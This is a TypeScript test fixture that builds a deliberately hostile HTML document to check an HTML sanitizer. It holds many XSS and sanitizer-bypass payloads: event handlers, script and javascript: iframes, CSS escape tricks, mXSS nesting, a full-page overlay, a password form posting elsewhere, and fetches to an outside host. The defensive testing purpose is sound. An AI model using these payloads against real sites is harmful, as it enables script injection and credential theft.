/**
 * An issue that tries everything: to run, to fetch, to be led away, to lie over what is around it. `javascript:` in links
 * is left out, since such an issue is refused when it is created.
 * @param elsewhere Where a stranger listens. @param here Where Readout does.
 */
export function hostileIssue(elsewhere: string, here: string): string {
  return `<!doctype html><html onload="ran('html')"><head><title>Hostile</title>
<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"><base href="${elsewhere}/base/" target="_top">
<link rel="stylesheet" href="${elsewhere}/a.css"><link rel="prefetch" href="${elsewhere}/prefetch"><link rel="preload" as="image" href="${elsewhere}/preload">
<style>@import url("${elsewhere}/import.css"); @\\69mport "${elsewhere}/import2.css";
@font-face{font-family:x;src:url(${elsewhere}/font.woff2)} body{font-family:x;background:url(${elsewhere}/bg.png),u\\72l("${elsewhere}/bg2.png")}
h2::before{content:url(${elsewhere}/content.png)} ul{list-style:url(${elsewhere}/list.png)} p{cursor:url(${elsewhere}/cursor.png),auto;background:image-set("${elsewhere}/set.png" 1x)}
.over{position:fixed;inset:-500px;z-index:2147483647;background:red}</style>
<script>parent.ran && parent.ran('script'); top.location='${elsewhere}/top'; fetch('${elsewhere}/fetch')</script></head>
<body onload="parent.document.title='ran'" background="${elsewhere}/body.png">
<div class="over" id="over">over everything</div><div style="position:\\66ixed;inset:-500px" id="escaped">over</div>
<h2>First</h2><ul><li>one</li></ul>
<p>words <a href="https://example.org/first" target="_top" ping="${elsewhere}/ping" onclick="parent.document.title='ran'">the first</a>
<a href="https://example.org/second" target="_parent" onmouseover="fetch('${elsewhere}/over')">the second</a></p>
<img src="${elsewhere}/img.png" srcset="${elsewhere}/srcset.png 2x" onerror="parent.document.title='ran'" width="200" height="80" alt="A picture">
<img src="${here}/api/v1/session" alt="own"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.document.title=1'><image href='${elsewhere}/svgimage'/></svg>" alt="x">
<picture><source srcset="${elsewhere}/source.png"><img src="${elsewhere}/picture.png" alt=""></picture>
<svg onload="parent.document.title='ran'"><script>parent.document.title='ran'</script><image href="${elsewhere}/image.png"/><use href="${elsewhere}/use.svg#a"/><animate onbegin="parent.document.title='ran'" attributeName="x" dur="1s"/><foreignObject><iframe src="${elsewhere}/foreign"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror="parent.document.title='ran'"></style></mglyph></table></mtext></math>
<iframe src="${elsewhere}/frame"></iframe><iframe srcdoc="<script>top.document.title='ran'</script>"></iframe><iframe src="javascript:top.document.title='ran'"></iframe>
<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed"><video autoplay poster="${elsewhere}/poster.png" src="${elsewhere}/video.mp4"></video><audio autoplay src="${elsewhere}/audio.mp3"></audio>
<form action="${elsewhere}/form" target="_top"><input name="password" type="password" autofocus onfocus="parent.document.title='ran'"><button formaction="${elsewhere}/formaction">Send</button><input type="image" src="${elsewhere}/submit.png"></form>
<details open ontoggle="parent.document.title='ran'"><summary>more</summary>text</details><marquee onstart="parent.document.title='ran'">m</marquee>
<noscript><p title="</noscript><img src=x onerror=&quot;parent.document.title='ran'&quot;>">n</p></noscript>
<template><img src="${elsewhere}/template.png"></template><xmp><img src="${elsewhere}/xmp.png"></xmp>
<table background="${elsewhere}/table.png"><tr><td background="${elsewhere}/td.png" style="background:url(${elsewhere}/style.png)">cell</td></tr></table>
<h2>Second</h2><p>the end</p><plaintext><script>parent.document.title='ran'</script>`;
}
